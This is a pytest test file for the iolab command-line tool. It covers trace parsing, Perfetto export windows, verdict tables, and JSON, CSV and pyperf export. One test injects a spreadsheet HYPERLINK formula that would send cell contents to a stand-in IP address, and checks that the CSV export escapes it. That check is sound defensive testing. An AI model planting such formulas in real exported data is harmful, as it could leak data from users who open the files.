# SPDX-License-Identifier: MIT
"""``iolab verdicts``, ``iolab trace`` and ``iolab export``."""

from __future__ import annotations

import csv
import io
import json
import subprocess
from dataclasses import replace
from pathlib import Path

import pytest
from perfetto.protos.perfetto.trace import perfetto_trace_pb2 as protos

from iolab.pathology import get_pathology
from iolab.paths import REFERENCE
from iolab.store.raw import RawStore, block_key
from iolab.store.tables import write_tables
from iolab_base.files import canonical_json
from tests.support import reports, synthetic
from tests.support.command import ARGV, Iolab
from tests.support.processes import child_environment
from tests.support.results import TARGET, block, write_results


def test_a_trace_says_what_is_in_it(iolab: Iolab, tmp_path: Path) -> None:
    source = REFERENCE / "traces" / "small_v7_mono.dat"
    told = iolab("trace", source, "--perfetto", tmp_path / "p", "--parquet", tmp_path / "tables")
    assert told.code == 0
    assert "mono clock" in told.out
    assert (tmp_path / "p").stat().st_size > 1000
    assert (tmp_path / "tables" / "sched_switch.parquet").exists()
    (tmp_path / "cut").write_bytes(source.read_bytes()[:5000])
    told = iolab("trace", tmp_path / "cut")
    assert (told.code, told.out) == (2, "")
    assert "cut" in told.one_line()


def test_verdicts_are_told_for_each_kernel_and_for_each_claim(iolab: Iolab, tmp_path: Path) -> None:
    folder = synthetic.write(synthetic.dataset(boots=2), tmp_path / "data")
    told = iolab("verdicts", folder)
    assert told.code == 0, told.error
    rows = [line.split() for line in told.out.splitlines()]
    assert [row[:2] for row in rows[1:]] == [["dio_kworker", k] for k in ("6.1", "6.12", "6.8")]
    told = iolab("verdicts", "--claims", folder)
    claims = get_pathology("dio_kworker").claims
    assert len(told.out.splitlines()) == 1 + 3 * len(claims)
    for claim in claims:
        assert claim.name in told.out
    assert "its archive cannot be reached" in told.out


def test_verdicts_of_what_is_no_result_are_one_sentence(iolab: Iolab, tmp_path: Path) -> None:
    told = iolab("verdicts", tmp_path)
    assert told.code == 2
    assert "is not a folder of results" in told.one_line()


def test_verdicts_in_a_pipe_are_a_line_each_whatever_the_width(
    iolab: Iolab, tmp_path: Path
) -> None:
    folder = synthetic.write(synthetic.dataset(boots=2), tmp_path / "data")
    wide = iolab("verdicts", folder, "--claims").out
    assert iolab("verdicts", folder, "--claims", COLUMNS="40").out == wide
    assert max(map(len, wide.splitlines())) > 80
    assert not any(line.endswith(" ") for line in wide.splitlines())


def test_verdicts_as_json_are_rows_with_numbers(iolab: Iolab, tmp_path: Path) -> None:
    data = reports.report("fsnotify_contention", kernels=["6.1"])
    folder = synthetic.write(data, tmp_path / "data")
    told = iolab("verdicts", folder, "--json")
    rows = json.loads(told.out)
    assert (told.code, told.error) == (0, "")
    assert [row["kernel"] for row in rows] == ["6.1", "6.8"]
    assert "secondary_claims" in rows[0]
    told = iolab("verdicts", folder, "--claims", "--json")
    rows = json.loads(told.out)
    assert len(rows) == 2 * len(get_pathology("fsnotify_contention").claims)
    assert any(isinstance(row["estimate"], float) for row in rows if row["kernel"] == "6.1")
    # What could not run has no estimate: null, and no NaN.
    assert {row["estimate"] for row in rows if row["kernel"] == "6.8"} == {None}
    assert "NaN" not in told.out


def test_a_trace_as_json_has_its_span_and_events(iolab: Iolab, tmp_path: Path) -> None:
    source = REFERENCE / "traces" / "small_v7_mono.dat"
    told = iolab("trace", source, "--json", "--perfetto", tmp_path / "p")
    document = json.loads(told.out)
    assert (told.code, told.error) == (0, "")
    assert document["events"]["sched_switch"] == 16154
    assert 0 < document["begin_ns"] < document["end_ns"]
    assert (document["clock"], document["file"]) == ("mono", str(source))
    assert (document["perfetto"], document["parquet"]) == (str(tmp_path / "p"), None)


def _times(path: Path) -> list[int]:
    """Return the times of the scheduler's events in a file for Perfetto."""
    trace = protos.Trace()
    trace.ParseFromString(path.read_bytes())
    return sorted(e.timestamp for p in trace.packet for e in p.ftrace_events.event)


def test_a_window_of_a_trace_for_perfetto(iolab: Iolab, tmp_path: Path) -> None:
    source = REFERENCE / "traces" / "small_v7_mono.dat"
    told = iolab("trace", source, "--perfetto", tmp_path / "whole", "--json")
    first = json.loads(told.out)["begin_ns"]
    window = ("--from", "0.05", "--to", "0.15")
    told = iolab("trace", source, "--perfetto", tmp_path / "part", *window)
    assert (told.code, told.error) == (0, "")
    inside = [
        time
        for time in _times(tmp_path / "whole")
        if first + 50_000_000 <= time <= first + 150_000_000
    ]
    assert 0 < len(inside) < len(_times(tmp_path / "whole"))
    assert _times(tmp_path / "part") == inside
    # Open ends.
    told = iolab("trace", source, "--perfetto", tmp_path / "all", "--from", "0")
    assert (tmp_path / "all").read_bytes() == (tmp_path / "whole").read_bytes()


@pytest.mark.parametrize(
    ("window", "sentence"),
    [
        (("--from", "0.2", "--to", "0.1"), "--from 0.2 --to 0.1 is not a window of"),
        (("--from", "1000"), "is not a window of"),
        (("--to", "-1"), "is not a window of"),
        (("--from", "nan"), "is not a window of"),
    ],
)
def test_a_window_that_is_none_is_one_sentence(
    iolab: Iolab, window: tuple[str, ...], sentence: str, tmp_path: Path
) -> None:
    source = REFERENCE / "traces" / "small_v7_mono.dat"
    told = iolab("trace", source, "--perfetto", tmp_path / "p", *window)
    assert (told.code, told.out) == (2, "")
    assert sentence in told.one_line()
    assert not (tmp_path / "p").exists()


def test_a_window_needs_a_file(iolab: Iolab) -> None:
    told = iolab("trace", REFERENCE / "traces" / "small_v7_mono.dat", "--to", "1")
    assert (told.code, told.one_line()) == (
        2,
        "--from and --to need --perfetto FILE",
    )


def test_export_of_what_is_no_sweep_is_one_sentence(iolab: Iolab, tmp_path: Path) -> None:
    told = iolab("export", tmp_path, "--root", tmp_path)
    assert (told.code, "no such file; is this a folder of results?" in told.one_line()) == (2, True)
    told = iolab("export", "--canonical", tmp_path, "--root", tmp_path)
    assert (told.code, "holds no finished sweep" in told.one_line()) == (1, True)


def test_export_writes_every_cell(iolab: Iolab, tmp_path: Path, root: Path) -> None:
    store = RawStore(root)
    made = block()
    key = block_key(made, TARGET)
    results = write_results(tmp_path / "results", made.plan)
    store.put(key, block=made, target=TARGET, results=results, run={})
    write_tables(store, [key], {}, root / "sweep")
    told = iolab("export", root / "sweep", "--root", root)
    assert (told.code, told.error, len(told.out.splitlines())) == (0, "", 5)
    told = iolab("export", "--canonical", root / "sweep", "--root", root)
    assert (told.code, told.error, len(told.out.splitlines())) == (0, "", 4)
    assert all(json.loads(line)["iops"] == 3000 for line in told.out.splitlines())


@pytest.mark.parametrize("given", ["iolab-block/1", "iolab-block/99"])
def test_export_of_another_format_is_one_sentence(
    iolab: Iolab, tmp_path: Path, root: Path, given: str
) -> None:
    store = RawStore(root)
    made = block()
    key = block_key(made, TARGET)
    results = write_results(tmp_path / "results", made.plan)
    store.put(key, block=made, target=TARGET, results=results, run={})
    write_tables(store, [key], {}, root / "sweep")
    path = store.folder(key) / "block.json"
    path.chmod(0o644)
    path.write_text(canonical_json({**made.document(), "format": given}))
    told = iolab("export", "--canonical", root / "sweep", "--root", root)
    assert (told.code, told.out) == (1, "")
    assert f"{path}: its format is '{given}', this iolab reads" in told.one_line()


def test_export_writes_archives_for_pyperf(iolab: Iolab, tmp_path: Path) -> None:
    folder = synthetic.write(synthetic.dataset(boots=2), tmp_path / "data")
    told = iolab("export", folder, "--pyperf", tmp_path / "archives")
    sides = ("control", "weight-100", "weight-1000", "weight-3000", "weight-10000")
    names = [f"{kernel}-{side}.json" for kernel in ("6.1", "6.12") for side in sides]
    paths = [tmp_path / "archives" / name for name in names]
    assert (told.code, told.error, told.out.splitlines()) == (0, "", [str(p) for p in paths])
    assert all(json.loads(path.read_text())["benchmarks"] for path in paths)
    told = iolab("export", folder, "--pyperf", tmp_path / "archives", "--json")
    first, second, *_ = json.loads(told.out)
    assert first == {
        "path": str(paths[0]),
        "kernel": "6.1",
        "treatment": "weight",
        "level": "control",
    }
    assert second["level"] == 100
    told = iolab("export", folder, "--canonical", "--pyperf", tmp_path / "archives")
    assert told.code == 2
    assert "exclude each other" in told.one_line()


def test_export_into_a_closed_pipe_leaves_no_traceback(tmp_path: Path) -> None:
    folder = synthetic.write(synthetic.dataset(boots=20), tmp_path / "data")
    with subprocess.Popen(
        [*ARGV, "export", str(folder)],
        env=child_environment(),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    ) as process:
        assert process.stdout is not None
        assert process.stderr is not None
        process.stdout.readline()
        process.stdout.close()
        error = process.stderr.read().decode()
    assert "Traceback" not in error
    assert "Exception ignored" not in error


def test_a_spreadsheet_finds_no_formula_in_csv(iolab: Iolab, tmp_path: Path) -> None:
    data = synthetic.dataset(boots=2)
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1,"x")'
    cells = data.cells.assign(gate=formula, idle=-1.5)
    folder = synthetic.write(replace(data, cells=cells), tmp_path / "data")
    rows = list(csv.DictReader(io.StringIO(iolab("export", folder).out)))
    assert {row["gate"] for row in rows} == {f"'{formula}"}
    assert {row["idle"] for row in rows} == {"-1.5"}
    # What is no CSV has the text as it is.
    assert {cell["gate"] for cell in json.loads(iolab("export", folder, "--json").out)} == {formula}


def test_export_prints_cells_as_json_or_csv(iolab: Iolab, tmp_path: Path) -> None:
    data = synthetic.dataset(boots=2)
    folder = synthetic.write(data, tmp_path / "data")
    told = iolab("export", folder, "--json")
    cells = json.loads(told.out)
    assert (told.code, told.error, len(cells)) == (0, "", len(data.cells))
    assert [cell["iops"] for cell in cells] == data.cells["iops"].tolist()
    assert {cell["weight"] for cell in cells} == {None, 100, 1000, 3000, 10000}
    told = iolab("export", folder, "--json", "--canonical")
    assert told.code == 2
    assert "--canonical and --json exclude each other" in told.one_line()
